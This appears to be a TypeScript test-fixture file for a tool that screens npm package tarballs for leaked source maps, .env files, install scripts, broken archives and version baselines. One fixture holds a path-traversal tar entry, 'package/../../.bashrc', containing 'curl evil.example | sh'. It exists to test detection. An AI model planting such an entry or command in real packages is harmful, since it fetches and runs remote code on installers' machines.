import type { Case, Contents, Package } from './case.ts';
import { stored, tarballOf } from './packed.ts';

const map = `${JSON.stringify({
  version: 3,
  sources: ['../src/cli.ts', '../src/prompts/system.ts', '../../shared/keys.ts'],
  sourcesContent: ['export const cli = 1;\n', 'export const prompt = 2;\n', 'export const keys = 3;\n'],
  mappings: 'AAAA',
})}\n`;

const same = { '1.0.0': {} };

/** A release that goes wrong in several ways at once. */
const accident: Package = {
  name: '@acme/kettle',
  version: '2.1.88',
  releases: { '2.1.87': { files: { 'dist/cli.js': 'run();\n'.repeat(200), 'dist/old.js': 'old();\n' } } },
  files: {
    'dist/cli.js': 'run();\n'.repeat(210),
    'dist/cli.js.map': map,
    'dist/.env': 'TOKEN=x\n',
    '.claude/settings.local.json': '{}\n',
    'test/cli.test.js': 'test();\n',
    'src/cli.ts': 'export const cli = 1;\n',
  },
  manifest: { scripts: { postinstall: 'node dist/cli.js' }, dependencies: { left: '^1.0.0' } },
};

const warned: Contents = { files: { 'test/a.test.js': 'test();\n', 'index.js': 'module.exports = 2;\n' } };
const changed: Contents = { files: { 'index.js': 'module.exports = 2;\n' } };

/** One of each verdict, by turns. */
const many = Array.from({ length: 24 }, (_, at): Package => {
  const name = `@acme/part-${String(at + 1).padStart(2, '0')}`;
  const contents: Contents = [{ files: { '.env': 'A=1\n' } }, warned, changed, {}][Math.min(at % 8, 3)] ?? {};
  if (at === 18) return { name, bytes: Buffer.from('no gzip at all') };
  return { name, ...contents, releases: same };
});

/** What the base branch has already. */
const leaking: Package = { files: { 'index.js.map': map } };

const whole = await tarballOf('kettle', '1.0.1', {});

const flood = Object.fromEntries(
  Array.from({ length: 400 }, (_, at) => [`lib/${'deep/'.repeat(at % 7)}part-${at}/.env`, `A=${at}\n`]),
);

const deprecated = { record: { deprecated: 'broken' } };
const baselines: readonly Package[] = [
  { name: 'stable', version: '2.0.0', releases: { '1.0.0': {}, '1.1.0': {}, '2.1.0': {} } },
  { name: 'first' },
  { name: 'unbumped', version: '1.0.0', releases: same },
  { name: 'deprecated', version: '1.0.3', releases: { '1.0.0': {}, '1.0.1': {}, '1.0.2': deprecated } },
  { name: 'beta', version: '2.0.0-beta.2', releases: { '1.9.0': {}, '2.0.0-beta.1': {} } },
  { name: 'train', version: '2.0.0-rc.1', releases: { '1.9.0': {}, '2.0.0-beta.4': {} } },
  { name: 'before-stable', version: '1.0.0', releases: { '1.0.0-alpha.1': {} } },
  { name: 'placeholder', version: '0.0.0-development', releases: { '1.4.0': {} } },
  { name: 'snapshot', version: '0.0.0-pr-12-20261120', releases: { '1.4.0': {} } },
  {
    name: 'canary',
    version: '0.0.0-canary-20261120',
    releases: { '1.4.0': {}, '0.0.0-canary-20261118': {}, '0.0.0-canary-20261119': {} },
    packument: { 'dist-tags': { latest: '1.4.0', canary: '0.0.0-canary-20261119' } },
  },
];

/** It unpacks, and is no tar: refused at the byte where installers would no longer agree. */
const noHeaders = stored(Buffer.alloc(4_096, 'a'));

const climbing = [
  ['package/package.json', '{"name":"kettle","version":"1.0.1"}\n'],
  ['package/../../.bashrc', 'curl evil.example | sh\n'],
] as const;

/** Packed by npm: what stands in these files is where the advice points to. */
const folder = (name: string, files: Readonly<Record<string, string>>): Record<string, string> =>
  Object.fromEntries(
    Object.entries({ 'index.js': 'module.exports = 1;\n', LICENSE: 'MIT\n', ...files }).map(
      ([path, text]) => [`${name}/${path}`, text],
    ),
  );
const document = (fields: object): string =>
  `${JSON.stringify({ version: '1.0.0', main: 'index.js', license: 'MIT', ...fields }, null, 2)}\n`;

export const usualCases: readonly Case[] = [
  { name: 'accident', formats: 'all', screens: true, packages: [accident] },
  { name: 'pass', formats: 'all', screens: true, packages: [{ ...changed, releases: same }] },
  { name: 'pass-unchanged', formats: 'few', packages: [{ releases: same }] },
  { name: 'warn', formats: 'all', packages: [{ ...warned, releases: same }] },
  { name: 'first-publish', formats: 'all', packages: [{ ...accident, version: '1.0.0', releases: {} }] },
  { name: 'perhaps-private', formats: 'few', packages: [{ ...accident, releases: {} }] },
  {
    name: 'known-already',
    formats: 'few',
    packages: [{ ...accident, releases: { '2.1.87': accident } }],
  },
  {
    name: 'already-on-main',
    formats: ['report.txt', 'comment.md', 'summary.md', 'annotations.txt', 'findings.json', 'outcome.txt'],
    packages: [{ files: { ...leaking.files, ...changed.files }, releases: same }],
    base: [leaking],
  },
  {
    name: 'already-on-main-and-more',
    formats: 'all',
    packages: [
      { files: { ...leaking.files, 'test/a.test.js': 'test();\n', '.env': 'A=1\n' }, releases: same },
    ],
    base: [leaking],
  },
  { name: 'climbing-path', formats: 'few', packages: [{ members: climbing, releases: same }] },
  { name: 'many-packages', formats: 'all', packages: many },
  { name: 'many-packages-pass', formats: 'few', packages: many.filter((_, at) => at % 8 > 5) },
  {
    name: 'many-findings',
    formats: ['report.txt', 'comment.md', 'annotations.txt', 'outcome.txt'],
    packages: [{ files: flood, releases: same }],
  },
  { name: 'baselines', formats: 'few', packages: baselines },
  { name: 'baseline-none', formats: 'few', packages: [{ releases: same }], inputs: { baseline: 'none' } },
  {
    name: 'baseline-given',
    formats: 'few',
    packages: [{ version: '3.0.0', releases: { '1.0.0': {}, '2.0.0': {} } }],
    inputs: { baseline: '1.x' },
  },
  { name: 'baseline-missing', formats: 'few', packages: [{ releases: same }], inputs: { baseline: '9.9.9' } },
  {
    name: 'published-other-bytes',
    formats: 'all',
    screens: true,
    packages: [{ version: '1.0.0', ...changed, releases: same }],
    inputs: { mode: 'publish' },
  },
  {
    name: 'published-same-bytes',
    formats: 'all',
    screens: true,
    packages: [{ version: '1.0.0', releases: same }],
    inputs: { mode: 'publish' },
  },
  { name: 'not-raised-yet', formats: 'all', packages: [{ version: '1.0.0', ...changed, releases: same }] },
  {
    name: 'undecided-unreadable',
    formats: 'all',
    packages: [{ bytes: Buffer.from('no gzip at all'), releases: same }],
  },
  {
    name: 'undecided-cut-short',
    formats: 'few',
    packages: [{ bytes: whole.subarray(0, 3_000), releases: same }],
  },
  { name: 'undecided-refused', formats: 'all', packages: [{ bytes: noHeaders, releases: same }] },
  {
    name: 'undecided-registry-down',
    formats: 'few',
    packages: [changed],
    inputs: { registry: 'http://127.0.0.1:9/' },
  },
  { name: 'undecided-no-package', formats: 'few', inputs: { packages: 'packages/*' } },
  { name: 'wrong-input', formats: 'all', packages: [{ releases: same }], inputs: { 'fail-on': 'errors' } },
  {
    name: 'wrong-name',
    formats: 'few',
    packages: [
      { manifest: { name: 'x|<img>' }, file: 'name.tgz' },
      { name: 'kettle', version: 'not.a.version' },
    ],
    inputs: { baseline: 'none' },
  },
  {
    name: 'folder',
    formats: 'all',
    packs: true,
    files: {
      ...folder('.', {
        'package.json': document({ name: 'kettle', files: ['dist', 'index.js'] }),
        'dist/index.js': 'module.exports = 1;\n',
        'dist/index.js.map': map,
        'dist/.env': 'A=1\n',
      }),
    },
    inputs: { packages: '.' },
  },
  {
    name: 'folders',
    formats: 'few',
    packs: true,
    files: {
      ...folder('packages/lid', {
        'package.json': document({
          name: '@acme/lid',
          scripts: { postinstall: 'node index.js' },
          types: 'dist/index.d.ts',
        }),
        '.npmignore': 'src\n',
        'src/index.ts': 'export const a = 1;\n',
        '.env': 'A=1\n',
        'coverage/lcov.info': 'TN:\n',
      }),
      ...folder('packages/spout', {
        'package.json': document({ name: '@acme/spout', files: ['*'] }),
        'npm-debug.log': '0 info it worked\n',
        'test/a.test.js': 'test();\n',
      }),
    },
    inputs: { packages: 'packages/*' },
  },
];
